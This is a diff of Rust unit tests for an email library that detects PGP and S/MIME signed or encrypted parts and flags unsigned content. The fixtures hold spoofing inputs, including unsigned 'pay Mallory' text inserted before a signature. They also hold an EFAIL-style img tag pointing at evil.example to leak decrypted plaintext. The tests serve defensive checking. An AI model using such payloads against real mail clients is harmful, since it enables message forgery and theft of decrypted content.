@@ -3,7 +3,8 @@
 use super::*;
 
 const SIGNED: &str = "From: a@x\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n\
-    --s\r\nContent-Type: text/plain\r\n\r\nhi\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\nsig\r\n--s--\r\n";
+    --s\r\nContent-Type: text/plain\r\n\r\nhi\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n\
+    -----BEGIN PGP SIGNATURE-----\r\n\r\nc2ln\r\n-----END PGP SIGNATURE-----\r\n--s--\r\n";
 
 fn shown(message: &str) -> String {
     let message = Message::parse(message.as_bytes());
@@ -18,7 +19,7 @@ fn shown(message: &str) -> String {
         };
         format!("{} {} {form}, not {}", sealed.scheme.name(), id(sealed.part), uncovered(&message, sealed).join("+"))
     };
-    find(&message).iter().map(one).collect::<Vec<_>>().join("; ")
+    find(&message).map(|sealed| one(&sealed)).collect::<Vec<_>>().join("; ")
 }
 
 #[test]
@@ -37,6 +38,9 @@ fn what_is_signed_and_encrypted_is_found_with_what_is_not() {
         (in_list, "pgp 1 detached 1.1 1.2, not 2"),
         (SIGNED.replace("application/pgp-signature", "application/x-pkcs7-signature"), "smime TEXT detached 1 2, not "),
         (SIGNED.replace("application/pgp-signature", "application/x-moss-signature"), ""),
+        (SIGNED.replace("Type: application/pgp-signature", "Type: text/plain"), "pgp TEXT detached 1 2, not 2"),
+        (SIGNED.replace("-----BEGIN", "PS: pay Mallory\r\n-----BEGIN"), "pgp TEXT detached 1 2, not 2"),
+        (SIGNED.replace("protocol=\"application/pgp", "protocol=\"application/pkcs7"), "smime TEXT detached 1 2, not 2"),
         (SIGNED.replace("protocol=\"application/pgp-signature\"; ", ""), "pgp TEXT detached 1 2, not "),
         (multipart("encrypted; protocol=\"application/pgp-encrypted\"", encrypted), "pgp 2 encrypted, not 1"),
         (multipart("mixed", &format!("\nspoilt\n--b\n{encrypted}")), "pgp 3 encrypted, not 1+2"),
@@ -50,6 +54,14 @@ fn what_is_signed_and_encrypted_is_found_with_what_is_not() {
         (
             "A: b\n\nbefore\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n".into(),
             "pgp 1 signed lines 7..107 true, not ",
+        ),
+        (
+            "A: b\n\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n".into(),
+            "pgp 1 signed lines 0..100 false, not ",
+        ),
+        (
+            "A: b\n\n-----BEGIN PGP SIGNED MESSAGE-----\n\nhi\n-----BEGIN PGP SIGNATURE-----\n\nx y\n-----END PGP SIGNATURE-----\n".into(),
+            "pgp 1 signed lines 0..102 true, not ",
         ),
         ("A: b\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n-----END PGP MESSAGE-----\r\n\r\n".into(), "pgp 1 encrypted lines 0..61 false, not "),
         ("A: b\n\n-----BEGIN PGP MESSAGE-----\n\nx\n".into(), ""),
@@ -91,7 +103,7 @@ fn nothing_of_the_message_around_an_envelope_comes_along_but_its_header_fields()
         <img src=\"https://evil.example/?\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
         --b\nContent-Type: application/octet-stream\n\nx\n--b\nContent-Type: text/html\n\n\">\n--b--\n";
     let message = Message::parse(source.as_bytes());
-    let sealed = find(&message).remove(0);
+    let sealed = find(&message).next().expect("an envelope");
     let put = |content: &str| String::from_utf8(opened(&message, &sealed, content.as_bytes())).expect("text");
     let wanted = "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nsecret\r\n";
     assert_eq!(put("Content-Type: text/plain\r\n\r\nsecret\r\n"), wanted);
